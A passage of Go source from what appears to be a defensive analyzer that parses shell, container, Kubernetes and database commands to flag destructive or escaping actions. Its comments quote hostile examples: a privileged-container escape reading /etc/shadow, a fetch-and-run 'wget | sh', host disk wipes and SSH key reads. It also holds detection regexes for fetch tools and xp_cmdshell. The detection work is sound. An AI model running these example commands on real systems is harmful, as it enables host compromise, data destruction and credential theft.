	for i := 0; i+1 < len(f); i++ {
		if f[i] != "-f" && f[i] != "--file" && f[i] != "--makefile" {
			continue
		}
		switch {
		case f[i+1] == "-" && !in.known && fromNetwork(in.sources):
			cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
			return true
		case fromNetwork(args.srcs[i+1]):
			cmd.CodeFrom = append(cmd.CodeFrom, args.srcs[i+1]...)
			return true
		default:
			if _, file := w.st.LookupFile(f[i+1]); file != nil && file.Downloaded && !file.Verified {
				cmd.CodeFrom = append(cmd.CodeFrom, Source{Kind: "download", Name: firstWord(file.From), Text: file.From})
				return true
			}
		}
	}
	return false
}

// makefileFromStdin reports whether make reads its Makefile from stdin.
func makefileFromStdin(args []string) bool {
	for i, a := range args {
		if (a == "-f" || a == "--file" || a == "--makefile") && i+1 < len(args) && (args[i+1] == "-" || args[i+1] == "/dev/stdin") {
			return true
		}
		if a == "--file=-" || a == "--makefile=-" || a == "-f-" {
			return true
		}
	}
	return false
}

// sqlFileFlags are the options with which database clients read
// statements from a file.
var sqlFileFlags = map[string][]string{
	"psql": {"-f", "--file"}, "cqlsh": {"-f", "--file"}, "sqlcmd": {"-i"},
	"clickhouse-client": {"--queries-file"}, "cockroach": {"--file"}, "mysqlsh": {"-f", "--file"},
}

// gitSubArgs returns git's arguments from its subcommand on, past the
// global options ("git -C ../poky stash" stashes too); nil for other
// programs.
func gitSubArgs(name string, f []string) []string {
	if name != "git" {
		return nil
	}
	for len(f) > 0 && strings.HasPrefix(f[0], "-") {
		if (f[0] == "-C" || f[0] == "-c") && len(f) > 1 {
			f = f[1:]
		}
		f = f[1:]
	}
	return f
}

// secretEnvFile reports whether a sourced file is a dotenv file with real
// values (.env, .env.production, prod.env), not a template.
func secretEnvFile(p string) bool {
	base := path.Base(p)
	lower := strings.ToLower(base)
	for _, t := range []string{"example", "sample", "template", "dist", "defaults", "tmpl", "tpl"} {
		if strings.Contains(lower, t) {
			return false
		}
	}
	// OpenStack's RC files export OS_PASSWORD (admin-openrc.sh,
	// keystonerc_admin).
	openrc := strings.HasSuffix(strings.TrimSuffix(lower, ".sh"), "openrc") || strings.HasPrefix(lower, "keystonerc")
	return lower == ".env" || strings.HasPrefix(lower, ".env.") || strings.HasSuffix(lower, ".env") || openrc
}

// envDump reports whether a command prints the whole environment: env
// or printenv with no operands, export -p, set with no arguments,
// declare/typeset -p or -x with no names.
func envDump(name string, args []string) bool {
	switch name {
	case "env", "printenv":
		for _, a := range args {
			if !strings.HasPrefix(a, "-") {
				return false
			}
		}
		return true
	case "set":
		return len(args) == 0
	case "export", "declare", "typeset":
		// With no names, each prints every (exported) variable.
		for _, a := range args {
			if a != "-p" && a != "-x" && a != "-px" && a != "-xp" {
				return false
			}
		}
		return true
	}
	return false
}

// findExec emits the commands of find -exec / -execdir / -ok, with "{}"
// standing for what find would pass.
func (w *walker) findExec(cmd *Command, c ctx) {
	var roots []string
	namePat, pathPat := "", ""
	i := 0
	for ; i < len(cmd.Args); i++ {
		a := cmd.Args[i]
		if strings.HasPrefix(a, "-") || a == "(" || a == "!" {
			break
		}
		roots = append(roots, a)
	}
	if len(roots) == 0 {
		roots = []string{"."}
	}
	for j := i; j < len(cmd.Args); j++ {
		a := cmd.Args[j]
		if (a == "-name" || a == "-iname") && j+1 < len(cmd.Args) {
			// The first name test that selects, not one that excludes:
			// find ~/.ssh -name 'id_*' ! -name '*.pub' reads id_*.
			negated := j > 0 && (cmd.Args[j-1] == "!" || cmd.Args[j-1] == "-not")
			if namePat == "" && !negated {
				namePat = cmd.Args[j+1]
			}
		}
		if p, ok := findPathTail(cmd.Args, j); ok && pathPat == "" {
			pathPat = p
		}
		if a == "-exec" || a == "-execdir" || a == "-ok" || a == "-okdir" {
			k := j + 1
			for k < len(cmd.Args) && cmd.Args[k] != ";" && cmd.Args[k] != "+" {
				k++
			}
			sub := cmd.Args[j+1 : k]
			j = k
			if len(sub) == 0 {
				continue
			}
			for _, root := range roots[:min(len(roots), 4)] {
				pat := namePat
				if pat == "" {
					pat = pathPat // a -path tail, when no -name selects
				}
				item := findItem(root, pat, cmd.Args)
				argv := make([]string, len(sub))
				for x, s := range sub {
					argv[x] = strings.ReplaceAll(s, "{}", item)
				}
				nr := newRaw(argv)
				nr.text = cmd.Text
				w.depth++
				w.emit(nr.wrap("find"), c.with("find "+a), stdinInfo{})
				w.depth--
			}
		}
	}
}

func sshRemote(f []string) (host, rest string) {
	argOpts := "bcDEeFIiJLlmOopQRSWw"
	i := 0
	for i < len(f) {
		a := f[i]
		if a == "--" {
			i++
			break
		}
		if strings.HasPrefix(a, "-") && len(a) > 1 {
			last := a[len(a)-1:]
			if len(a) == 2 && strings.Contains(argOpts, last) {
				i += 2
				continue
			}
			i++
			continue
		}
		break
	}
	if i+1 >= len(f) {
		return "", ""
	}
	host = f[i]
	if _, h, ok := strings.Cut(host, "@"); ok {
		host = h
	}
	return host, strings.Join(f[i+1:], " ")
}

// publishedScratch reads "run" options: the host port of the first
// -p/--publish and the container's name (or image), when the container
// keeps nothing (--rm, or no volume): a database in it is scratch.
func publishedScratch(f []string) (port, who string) {
	i := 0
	for i < len(f) && strings.HasPrefix(f[i], "-") {
		i++
	}
	if i < len(f) && f[i] == "container" {
		i++
	}
	if i >= len(f) || f[i] != "run" {
		return "", ""
	}
	rm, volumes, name := false, false, ""
	valued := map[string]bool{"-e": true, "--env": true, "-u": true, "--user": true, "-w": true, "--workdir": true, "--network": true,
		"--net": true, "-l": true, "--label": true, "--entrypoint": true, "--env-file": true, "--platform": true, "-h": true, "--hostname": true,
		"--restart": true, "-m": true, "--memory": true, "--cpus": true, "--health-cmd": true, "--tmpfs": true}
	for i++; i < len(f); i++ {
		a := f[i]
		key, val, hasVal := strings.Cut(a, "=")
		switch {
		case a == "--rm":
			rm = true
		case a == "-p" || a == "--publish":
			if i+1 < len(f) && port == "" {
				port = hostPort(f[i+1])
			}
			i++
		case hasVal && key == "--publish" || strings.HasPrefix(a, "-p") && len(a) > 2 && !strings.HasPrefix(a, "--"):
			if port == "" {
				if !hasVal || key != "--publish" {
					val = a[2:]
				}
				port = hostPort(val)
			}
		case a == "-v" || a == "--volume" || a == "--mount":
			volumes = true
			i++
		case key == "--volume" || key == "--mount" || strings.HasPrefix(a, "-v") && !strings.HasPrefix(a, "--"):
			volumes = true
		case a == "--name":
			if i+1 < len(f) {
				name = f[i+1]
			}
			i++
		case key == "--name" && hasVal:
			name = val
		case valued[a]:
			i++
		case strings.HasPrefix(a, "-"):
		default:
			if name == "" {
				name = a // the image
			}
			i = len(f)
		}
	}
	if port == "" || name == "" || Unknown(name) || volumes && !rm {
		return "", ""
	}
	return port, name
}

// hostPort is the host side of a -p spec ("6380:6379", "127.0.0.1:6380:6379/tcp").
func hostPort(spec string) string {
	spec, _, _ = strings.Cut(spec, "/")
	parts := strings.Split(spec, ":")
	if len(parts) < 2 {
		return ""
	}
	p := parts[len(parts)-2]
	if p == "" || strings.Trim(p, "0123456789") != "" {
		return ""
	}
	return p
}

// kubeExecPlace is the namespace and pod of "kubectl exec" ("ns/pod",
// or "pod" when no namespace is named), or "" when they are not plain
// words.
func kubeExecPlace(f []string) string {
	ns, pod, seenExec := "", "", false
	for i := 0; i < len(f); i++ {
		a := f[i]
		name, val, hasVal := strings.Cut(a, "=")
		switch {
		case a == "--":
			i = len(f)
		case (a == "-n" || a == "--namespace") && i+1 < len(f):
			ns = f[i+1]
			i++
		case hasVal && (name == "-n" || name == "--namespace"):
			ns = val
		case strings.HasPrefix(a, "-n") && len(a) > 2 && !strings.HasPrefix(a, "--"):
			ns = a[2:]
		case (a == "-c" || a == "--container" || a == "--token" || kubeGlobalValued[a]) && i+1 < len(f):
			i++
		case strings.HasPrefix(a, "-"):
		case !seenExec:
			seenExec = a == "exec"
		case pod == "":
			pod = strings.TrimPrefix(strings.TrimPrefix(a, "pod/"), "pods/")
		}
	}
	if pod == "" || Unknown(pod) || Unknown(ns) {
		return ""
	}
	if ns != "" {
		return ns + "/" + pod
	}
	return pod
}

func containerExec(prog string, f []string) []string {
	// Global options may come first: kubectl --context prod exec ...,
	// docker -H ssh://host exec ...
	valued := map[string]bool{"-n": true, "--namespace": true, "--context": true, "--kubeconfig": true, "--cluster": true,
		"--user": true, "-s": true, "--server": true, "--token": true, "--as": true, "-H": true, "--host": true, "-c": true,
		"--config": true, "-l": true, "--log-level": true}
	for len(f) > 0 && strings.HasPrefix(f[0], "-") {
		if valued[f[0]] && len(f) > 1 {
			f = f[2:]
		} else {
			f = f[1:]
		}
	}
	if prog == "kubectl" && len(f) > 1 && f[0] == "debug" && strings.HasPrefix(f[1], "node/") {
		// kubectl debug node/N -- CMD: the node's root is mounted at
		// /host; "chroot /host CMD" runs CMD on the node.
		for i, a := range f {
			if a == "--" && i+1 < len(f) {
				argv := f[i+1:]
				if len(argv) > 2 && argv[0] == "chroot" && argv[1] == "/host" {
					return argv[2:]
				}
				return hostPaths(argv, "/host")
			}
		}
		return nil
	}
	if prog == "kubectl" && len(f) > 1 && f[0] == "debug" && slices.ContainsFunc(f, func(a string) bool { return strings.HasPrefix(a, "--target") }) {
		// kubectl debug POD --target=CONTAINER -- CMD: CMD runs beside
		// the running container, in its process namespace, as exec.
		for i, a := range f {
			if a == "--" && i+1 < len(f) {
				return f[i+1:]
			}
		}
		return nil
	}
	if len(f) == 0 || f[0] != "exec" {
		return nil
	}
	f = f[1:]
	if prog == "kubectl" {
		for i, a := range f {
			if a == "--" {
				// nsenter -t 1 in a privileged pod runs on the node.
				if h := nsenterHost(f[i+1:]); h != nil {
					return h
				}
				return f[i+1:]
			}
		}
		return nil
	}
	argOpts := map[string]bool{"-e": true, "--env": true, "-u": true, "--user": true, "-w": true, "--workdir": true, "--env-file": true}
	for i := 0; i < len(f); i++ {
		a := f[i]
		if argOpts[a] {
			i++
			continue
		}
		if strings.HasPrefix(a, "-") {
			continue
		}
		// a is the container; the rest is the command.
		return f[i+1:]
	}
	return nil
}

// dockerRunArgOpts are the "docker run" options that take a value.
var dockerRunArgOpts = map[string]bool{
	"-v": true, "--volume": true, "--mount": true, "-e": true, "--env": true, "--env-file": true, "-p": true, "--publish": true,
	"-w": true, "--workdir": true, "--name": true, "-u": true, "--user": true, "--network": true, "--net": true, "-h": true,
	"--hostname": true, "--entrypoint": true, "--platform": true, "-l": true, "--label": true, "--cpus": true, "-m": true,
	"--memory": true, "--restart": true, "--add-host": true, "--device": true, "--cap-add": true, "--cap-drop": true,
	"--security-opt": true, "--ulimit": true, "--dns": true, "--log-driver": true, "--log-opt": true, "--tmpfs": true,
	"--shm-size": true, "--pid": true, "--ipc": true, "--gpus": true, "--runtime": true, "--stop-signal": true,
	"--health-cmd": true, "--pull": true, "--cidfile": true, "--volumes-from": true, "-a": true, "--attach": true,
	"--expose": true, "--link": true, "--group-add": true, "--ip": true, "--userns": true, "--uts": true, "--cgroupns": true,
}

// nsenterHost returns the command of "nsenter -t 1 [namespaces] [--]
// CMD", which enters the namespaces of the host's init; nil otherwise.
func nsenterHost(argv []string) []string {
	if len(argv) == 0 || path.Base(argv[0]) != "nsenter" {
		return nil
	}
	pid1 := false
	for i := 1; i < len(argv); i++ {
		a := argv[i]
		switch {
		case (a == "-t" || a == "--target") && i+1 < len(argv):
			pid1 = argv[i+1] == "1"
			i++
		case a == "-t1" || a == "--target=1":
			pid1 = true
		case a == "--":
			if pid1 && i+1 < len(argv) {
				return argv[i+1:]
			}
			return nil
		case !strings.HasPrefix(a, "-"):
			if pid1 {
				return argv[i:]
			}
			return nil
		}
	}
	return nil
}

// fileParams replaces "file://PATH" option values with the content of
// a file the session wrote: "aws ssm send-command --parameters
// file:///tmp/p.json" sends what the session put in /tmp/p.json.
func (w *walker) fileParams(f []string) []string {
	var out []string
	for i, a := range f {
		pre, p, ok := strings.Cut(a, "file://")
		if !ok || (pre != "" && !strings.HasSuffix(pre, "=")) {
			continue
		}
		if _, file := w.st.LookupFile(p); file != nil && !file.Downloaded {
			if out == nil {
				out = slices.Clone(f)
			}
			out[i] = pre + file.Content
		}
	}
	if out == nil {
		return f
	}
	return out
}

// containerRun is the command "docker run" starts in a container, with
// paths under bind mounts rewritten to the host paths they are: inside
// "-v /:/host", "rm -rf /host/etc" deletes the host's /etc. Without a
// bind mount the command only touches the container, and nil is
// returned.
func containerRun(prog string, f []string, record func(name string, mounts [][2]string)) []string {
	if prog == "kubectl" {
		return kubectlRunHostPaths(f)
	}
	if len(f) == 0 {
		return nil
	}
	// Global options first: docker -H ssh://host run ..., --context x.
	for len(f) > 1 && strings.HasPrefix(f[0], "-") {
		switch f[0] {
		case "-H", "--host", "-c", "--context", "--config", "-l", "--log-level":
			f = f[2:]
		default:
			f = f[1:]
		}
		if len(f) == 0 {
			return nil
		}
	}
	if f[0] == "container" && len(f) > 1 {
		f = f[1:]
	}
	if f[0] != "run" && f[0] != "create" {
		return nil
	}
	type mount struct{ host, cont string }
	var mounts []mount
	var entry, cname string
	hostPID := false    // --privileged or --pid=host: nsenter -t 1 reaches the host
	privileged := false // --privileged: the host's block devices are in /dev
	hostNet := false    // --network host: the host's network, metadata endpoint included
	f = f[1:]
	i := 0
	for ; i < len(f); i++ {
		a := f[i]
		name, val, hasVal := strings.Cut(a, "=")
		if !strings.HasPrefix(a, "-") {
			break
		}
		if a == "--privileged" || a == "--pid=host" || a == "--pid" && i+1 < len(f) && f[i+1] == "host" {
			hostPID = true
		}
		if a == "--network=host" || a == "--net=host" || (a == "--network" || a == "--net") && i+1 < len(f) && f[i+1] == "host" {
			hostNet = true
		}
		privileged = privileged || a == "--privileged"
		if !strings.HasPrefix(a, "--") {
			name, val, hasVal = a, "", false
		}
		if !dockerRunArgOpts[name] {
			continue
		}
		if !hasVal {
			if i+1 >= len(f) {
				return nil
			}
			val = f[i+1]
			i++
		}
		switch name {
		case "-v", "--volume":
			parts := strings.Split(val, ":")
			if len(parts) >= 2 && (strings.HasPrefix(parts[0], "/") || strings.HasPrefix(parts[0], "~") || strings.HasPrefix(parts[0], ".") || Unknown(parts[0])) {
				mounts = append(mounts, mount{parts[0], parts[1]})
			} else if len(parts) >= 2 && volumeNameRe.MatchString(parts[0]) && !scratchVolumeRe.MatchString(parts[0]) {
				// A named volume (n8n_data:/data): what the container
				// does under /data it does to the volume, which lives
				// where the engine keeps volumes on the host. (One
				// named as a test's or a cache's is scratch.)
				mounts = append(mounts, mount{"/var/lib/docker/volumes/" + parts[0] + "/_data", parts[1]})
			}
		case "--mount":
			var m mount
			for _, kv := range strings.Split(val, ",") {
				k, v, _ := strings.Cut(kv, "=")
				switch k {
				case "source", "src":
					m.host = v
				case "target", "destination", "dst":
					m.cont = v
				}
			}
			if m.host != "" && m.cont != "" {
				mounts = append(mounts, m)
			}
		case "--device":
			// --device /dev/sdb[:/dev/xvdb]: the host's disk, under the
			// container's name for it.
			host, cont, _ := strings.Cut(val, ":")
			cont, _, _ = strings.Cut(cont, ":")
			if cont == "" {
				cont = host
			}
			if strings.HasPrefix(host, "/dev/") {
				mounts = append(mounts, mount{host, cont})
			}
		case "--entrypoint":
			entry = val
		case "--name":
			cname = val
		}
	}
	pairs := make([][2]string, len(mounts))
	for k, m := range mounts {
		pairs[k] = [2]string{m.host, m.cont}
	}
	if cname != "" && len(mounts) > 0 && record != nil {
		record(cname, pairs)
	}
	if i < len(f) && len(mounts) == 0 && hostPID {
		// "docker run --privileged --pid=host alpine nsenter -t 1 -m --
		// cat /etc/shadow": a container escape; the command runs on the
		// host.
		if cmd := nsenterHost(f[i+1:]); cmd != nil {
			return cmd
		}
		// A compose service's command string, run as sh -c: "nsenter -t
		// 1 -m -- sh -c '...'" written as one line.
		if rest := f[i+1:]; len(rest) == 3 && rest[1] == "-c" && shells[path.Base(rest[0])] {
			if m := nsenterLineRe.FindStringSubmatch(rest[2]); m != nil {
				return []string{"sh", "-c", m[1]}
			}
		}
	}
	if i >= len(f) {
		return nil
	}
	if len(mounts) == 0 && privileged && (slices.ContainsFunc(f[i+1:], hostDevice) || len(f[i+1:]) == 3 && f[i+2] == "-c" && slices.ContainsFunc(strings.Fields(f[i+3]), hostDevice)) {
		// "docker run --privileged ubuntu mkfs.ext4 /dev/nvme0n1": a
		// privileged container sees the host's disks.
		if entry != "" {
			return append([]string{entry}, f[i+1:]...)
		}
		return f[i+1:]
	}
	if len(mounts) == 0 {
		// Without a mount the command stays in the container, unless the
		// image is a tool acting on the outside: the docker socket, a
		// cloud or cluster API, a remote.
		if ep := imageEntrypoints[imageName(f[i])]; ep != "" && entry == "" && remoteTools[ep] {
			return append([]string{ep}, f[i+1:]...)
		}
		// ... or the command is a client of something outside: "psql -h
		// pg.prod.internal -c 'DROP TABLE x'" drops the table wherever it
		// runs.
		if cmd := f[i+1:]; entry == "" && len(cmd) > 0 && outsideClient(cmd) {
			return cmd
		}
		// ... or code fetched from the network runs with the host's
		// network (or privileges): "docker run --network host alpine sh
		// -c 'wget -qO- URL | sh'" is no sandbox for what it fetched.
		if cmd := f[i+1:]; (hostNet || privileged) && len(cmd) > 0 && fetchWordRe.MatchString(strings.Join(cmd, " ")) {
			return cmd
		}
		return nil
	}
	argv := f[i+1:]
	if entry == "" {
		// Images whose entrypoint is a tool: "amazon/aws-cli s3 rm ..."
		// runs aws, "alpine/git push" runs git.
		entry = imageEntrypoints[imageName(f[i])]
	}
	if entry != "" {
		argv = append([]string{entry}, argv...)
	}
	if len(argv) == 0 {
		return nil
	}
	return rewriteMounts(argv, pairs)
}

// jsPropFold joins JavaScript string literals concatenated with "+"
// and turns a property named by a literal (obj["name"]) into obj.name.
func jsPropFold(s string) string {
	for i := 0; i < 8; i++ {
		t := jsConcatDQ.ReplaceAllString(s, `"$1$2"`)
		t = jsConcatSQ.ReplaceAllString(t, `'$1$2'`)
		if t == s {
			break
		}
		s = t
	}
	return jsIndexProp.ReplaceAllString(s, ".$1$2")
}

var (
	jsConcatDQ  = refilter.MustCompile(`"(\w*)"\s*\+\s*"(\w*)"`)
	jsConcatSQ  = refilter.MustCompile(`'(\w*)'\s*\+\s*'(\w*)'`)
	jsIndexProp = refilter.MustCompile(`\[\s*(?:"([A-Za-z_]\w*)"|'([A-Za-z_]\w*)')\s*\]`)
)

// fetchWordRe: a command line that downloads something.
var fetchWordRe = refilter.MustCompile(`\b(?:curl|wget|fetch|aria2c|Invoke-WebRequest|iwr|irm)\b`)

// apptainerExec is the command "apptainer exec|run IMAGE CMD..." runs,
// with paths under --bind mounts rewritten to the host's. Apptainer
// binds the home directory and /tmp by default, so what the command does
// there it does to the host's files.
func apptainerExec(f []string) []string {
	if len(f) < 3 || (f[0] != "exec" && f[0] != "run") {
		return nil
	}
	var pairs [][2]string
	i := 1
	for ; i < len(f) && strings.HasPrefix(f[i], "-"); i++ {
		a := f[i]
		name, val, hasVal := strings.Cut(a, "=")
		switch name {
		case "-B", "--bind", "--mount":
			if !hasVal && i+1 < len(f) {
				val = f[i+1]
				i++
			}
			for _, b := range strings.Split(val, ",") {
				src, dst, ok := strings.Cut(b, ":")
				dst, _, _ = strings.Cut(dst, ":")
				if !ok {
					dst = src
				}
				pairs = append(pairs, [2]string{src, dst})
			}
		case "--env", "--home", "-H", "--pwd", "--overlay", "-o", "--app", "--network", "--security", "--env-file":
			if !hasVal {
				i++
			}
		}
	}
	if i+1 >= len(f) {
		return nil // no command after the image
	}
	return rewriteMounts(f[i+1:], pairs)
}

// hostDevice reports whether an argument names a block device
// ("/dev/sda", "of=/dev/nvme0n1"), not one of the character devices
// every container has.
func hostDevice(a string) bool {
	if _, v, ok := strings.Cut(a, "="); ok {
		a = v
	}
	d, ok := strings.CutPrefix(a, "/dev/")
	if !ok {
		return false
	}
	switch strings.SplitN(d, "/", 2)[0] {
	case "null", "zero", "random", "urandom", "full", "tty", "stdin", "stdout", "stderr", "fd", "shm", "pts", "console", "ptmx", "mqueue":
		return false
	}
	return d != ""
}

// containerCopy reads "docker cp SRC CONTAINER:DST" and "kubectl cp
// SRC [NS/]POD:DST" (either direction) as the copy it is, without the
// container's name.
func containerCopy(prog string, f []string) (src, dst string, ok bool) {
	if len(f) < 3 || f[0] != "cp" {
		return "", "", false
	}
	var pos []string
	for i := 1; i < len(f); i++ {
		switch a := f[i]; {
		case prog == "kubectl" && (a == "-c" || a == "--container" || a == "-n" || a == "--namespace" || a == "--retries"):
			i++
		case strings.HasPrefix(a, "-") && a != "-":
		default:
			pos = append(pos, a)
		}
	}
	if len(pos) != 2 {
		return "", "", false
	}
	strip := func(p string) string {
		if k := strings.Index(p, ":"); k > 0 && !strings.Contains(p[:k], "/") || k > 0 && prog == "kubectl" && strings.Count(p[:k], "/") == 1 {
			return p[k+1:]
		}
		return p
	}
	return strip(pos[0]), strip(pos[1]), true
}

// composeExec is the service and command of "compose exec SERVICE
// CMD..." or "compose run [opts] SERVICE CMD..." when the project is a
// production one: the command runs in the project's service, with its
// volumes and networks and any -e settings (given to it as "env
// NAME=VALUE ..."). A compose project is a local development stack
// unless its file, its project name or a setting says production
// ("-f docker-compose.prod.yml", "-e RAILS_ENV=production"): flushing
// the dev Redis or deleting static files in the web container is
// routine.
func composeExec(f []string) (string, []string) {
	prod := false
	isProd := func(v string) bool { return strings.Contains(strings.ToLower(v), "prod") }
	valued := map[string]bool{"-f": true, "--file": true, "-p": true, "--project-name": true, "--profile": true, "--env-file": true,
		"--project-directory": true, "--ansi": true, "--progress": true, "--parallel": true}
	i := 0
	for i < len(f) && strings.HasPrefix(f[i], "-") {
		if name, val, ok := strings.Cut(f[i], "="); ok && valued[name] {
			prod = prod || isProd(val)
		} else if valued[f[i]] {
			if i+1 < len(f) {
				prod = prod || isProd(f[i+1])
			}
			i++
		}
		i++
	}
	if i >= len(f) || (f[i] != "exec" && f[i] != "run") {
		return "", nil
	}
	subValued := map[string]bool{"-e": true, "--env": true, "-u": true, "--user": true, "-w": true, "--workdir": true, "--index": true,
		"-v": true, "--volume": true, "--name": true, "--entrypoint": true, "-p": true, "--publish": true, "-l": true, "--label": true,
		"--cap-add": true, "--cap-drop": true, "--pull": true, "--env-from-file": true}
	var env []string
	for i++; i < len(f); i++ {
		a := f[i]
		name, val, hasVal := strings.Cut(a, "=")
		switch {
		case subValued[a] && i+1 < len(f):
			if a == "-e" || a == "--env" {
				env = append(env, f[i+1])
			}
			i++
		case hasVal && (name == "--env" || name == "-e"):
			env = append(env, val)
		case strings.HasPrefix(a, "-"):
		default:
			if i+1 >= len(f) || !prod && !slices.ContainsFunc(env, isProd) {
				return "", nil
			}
			if len(env) > 0 {
				return a, append(append([]string{"env"}, env...), f[i+1:]...)
			}
			return a, f[i+1:]
		}
	}
	return "", nil
}

// nsenterLineRe is a command line entering the namespaces of the host's
// init (nsenter -t 1 ...); group 1 is what it runs there.
var nsenterLineRe = refilter.MustCompile(`^\s*nsenter(?:\s+-[a-zA-Z-]+(?:=\S+)?)*?\s+(?:-t\s*1|--target[= ]1)(?:\s+-[a-zA-Z-]+(?:=\S+)?)*\s+(?:--\s+)?(.+)$`)

// rewriteMounts maps the container paths in argv to the host paths
// mounted there ({host, container} pairs).
func rewriteMounts(argv []string, mounts [][2]string) []string {
	out := make([]string, len(argv))
	for k, a := range argv {
		for _, m := range mounts {
			c := strings.TrimRight(m[1], "/")
			if c == "" {
				continue
			}
			switch {
			case a == c:
				a = m[0]
			case strings.HasPrefix(a, c+"/"):
				a = strings.TrimRight(m[0], "/") + "/" + strings.TrimPrefix(a, c+"/")
			case strings.Contains(a, " "):
				// A script string (sh -c '...'): rewrite path words in it.
				a = replacePathWord(a, c, m[0])
			default:
				// An option's value: f=@/k/config, if=/h/dev/sda,
				// --file=/k/x.
				for _, sep := range []string{"=@", "=", "@"} {
					if i := strings.Index(a, sep+c); i >= 0 {
						if rest := a[i+len(sep)+len(c):]; rest == "" || rest[0] == '/' {
							host := m[0]
							if rest != "" {
								host = strings.TrimRight(host, "/") // "/" + "/etc" is "/etc"
							}
							a = a[:i+len(sep)] + host + rest
							break
						}
					}
				}
			}
		}
		out[k] = a
	}
	return out
}

// tunnelOf is the host a command reaches through a port the session
// forwarded: "-p 6543", "--port=6543" or "localhost:6543" in its
// arguments, when 6543 was forwarded.
func (w *walker) tunnelOf(args []string) string {
	if len(w.st.Tunnels) == 0 {
		return ""
	}
	for i, a := range args {
		port := ""
		switch {
		case (a == "-p" || a == "-P" || a == "--port") && i+1 < len(args):
			port = args[i+1]
		case strings.HasPrefix(a, "--port="):
			port = a[len("--port="):]
		default:
			for _, h := range []string{"localhost:", "127.0.0.1:"} {
				if k := strings.Index(a, h); k >= 0 {
					port = a[k+len(h):]
					if e := strings.IndexAny(port, "/?@ "); e >= 0 {
						port = port[:e]
					}
				}
			}
		}
		if h, ok := w.st.Tunnels[port]; ok {
			return h
		}
	}
	return ""
}

// serverCommands walks the commands a database client's SQL (its
// arguments, and its input when known) hands to the server's shell:
// re's first group, a single-quoted SQL string (a quote doubled inside).
func (w *walker) serverCommands(re *refilter.Regexp, args rawCmd, in stdinInfo, c ctx) {
	text := strings.Join(args.fields, " ")
	if in.known {
		text += "\n" + in.content
	}
	for _, m := range re.FindAllStringSubmatch(text, 8) {
		w.sub(strings.ReplaceAll(m[1], "''", "'"), c, nil)
	}
}

// xpCmdshellRe is SQL Server's xp_cmdshell and the command it is given
// (N'...' or '...', with two quotes for a quote inside).
var xpCmdshellRe = refilter.MustCompile(`(?i)\bxp_cmdshell\s+N?'((?:[^']|'')*)'`)

// volumeNameRe is a container engine's volume name.
var volumeNameRe = refilter.MustCompile(`^[A-Za-z0-9][A-Za-z0-9_.-]*$`)

// scratchVolumeRe finds a volume named as scratch: myapp_test_data,
// ci-cache, e2e_db.
var scratchVolumeRe = refilter.MustCompile(`(?i)(^|[_.-])(tests?|tmp|temp|cache|scratch|ci|e2e|dev|sandbox|playground)([_.-]|$)`)

// diskpartWipeRe finds the diskpart commands that erase a disk or volume.
var diskpartWipeRe = refilter.MustCompile(`(?im)^\s*(clean( all)?|format\b|delete (partition|volume|disk))`)

// exeTools are POSIX-named tools that Windows installs as NAME.exe.
var exeTools = map[string]bool{
	"curl": true, "wget": true, "ncat": true, "nc": true, "ssh": true, "scp": true, "git": true, "tar": true,
	"python": true, "python3": true, "node": true, "perl": true, "ruby": true, "bash": true, "sh": true,
	"openssl": true, "socat": true, "rsync": true, "sftp": true, "plink": true,
}

// replacePathWord replaces the path c where it stands as a word or a
// word's leading directory in a script ("cat /k/id_rsa", ": > /hist",
// "echo x >>/rc"), not inside a longer name ("/hist2", "/x/hist").
func replacePathWord(script, c, host string) string {
	var b strings.Builder
	for i := 0; i < len(script); {
		j := strings.Index(script[i:], c)
		if j < 0 {
			b.WriteString(script[i:])
			break
		}
		j += i
		end := j + len(c)
		before := j == 0 || strings.IndexByte(" \t\n<>=;&|('\"", script[j-1]) >= 0
		after := end == len(script) || strings.IndexByte(" \t\n/;&|)'\"", script[end]) >= 0
		b.WriteString(script[i:j])
		switch {
		case before && after && end < len(script) && script[end] == '/':
			b.WriteString(strings.TrimRight(host, "/"))
		case before && after:
			b.WriteString(host)
		default:
			b.WriteString(c)
		}
		i = end
	}
	return b.String()
}

func skipOpts(f []string, withArg ...string) []string {
	for i := 0; i < len(f); i++ {
		a := f[i]
		if a == "--" {
			return f[i+1:]
		}
		if !strings.HasPrefix(a, "-") {
			return f[i:]
		}
		if contains(withArg, strings.TrimLeft(a, "-")) {
			i++
		}
	}
	return nil
}

// chdir follows "cd DIR" when DIR is known; anything else forgets the
// directory rather than guess.
func (w *walker) chdir(args []string) {
	var dir string
	for i, a := range args {
		if (a == "/d" || a == "/D") && i+1 < len(args) {
			continue // cmd.exe's cd /d DIR (drive too)
		}
		if !strings.HasPrefix(a, "-") || a == "-" {
			dir = a
			break
		}
	}
	if strings.Contains(dir, `\`) || strings.HasPrefix(dir, "%") || len(dir) >= 2 && dir[1] == ':' {
		// A Windows path (C:\x, %LOCALAPPDATA%\x).
		dir = winPath(dir)
	}
	switch {
	case dir == "" || dir == "~":
		w.st.Cwd = "~"
	case dir == "-" || Unknown(dir):
		w.st.Cwd = ""
	case strings.HasPrefix(dir, "/") || strings.HasPrefix(dir, "~"):
		w.st.Cwd = CleanPath(dir)
	case w.st.Cwd != "":
		w.st.Cwd = CleanPath(w.st.Cwd + "/" + dir)
	default:
		// Relative to somewhere unknown: keep the relative path, which
		// still says what kind of directory this is ("build").
		w.st.Cwd = CleanPath(dir)
	}
	w.st.CwdByCd = w.st.Cwd != ""
}

// tmuxCommand is the shell command a tmux invocation starts or types.
func tmuxCommand(f []string) string {
	if len(f) == 0 {
		return ""
	}
	switch f[0] {
	case "new", "new-session", "new-window", "neww", "split-window", "splitw", "respawn-pane", "run-shell", "run":
		rest := skipOpts(f[1:], "s", "n", "t", "c", "x", "y", "e", "F", "l", "p", "b")
		return strings.Join(rest, " ")
	case "send-keys", "send":
		var keys []string
		for _, a := range skipOpts(f[1:], "t", "N") {
			if a == "Enter" || a == "C-m" || a == "KPEnter" {
				keys = append(keys, "\n")
				continue
			}
			keys = append(keys, a)
		}
		return strings.Join(keys, " ")
	}
	return ""
}

// decodeUTF16B64 decodes PowerShell's -EncodedCommand: base64 of
// UTF-16LE text.
func decodeUTF16B64(s string) (string, bool) {
	raw, ok := decodeB64(s)
	if !ok || len(raw)%2 != 0 {
		return "", false
	}
	var b strings.Builder
	for i := 0; i+1 < len(raw); i += 2 {
		r := rune(raw[i]) | rune(raw[i+1])<<8
		b.WriteRune(r)
	}
	return b.String(), printable(b.String())
}

// globbedPrograms are the programs a globbed program word is tried
// against, most dangerous first.
var globbedPrograms = []string{
	"rm", "dd", "sh", "bash", "zsh", "dash", "cat", "curl", "wget", "shred", "mkfs", "chmod", "chown", "find",
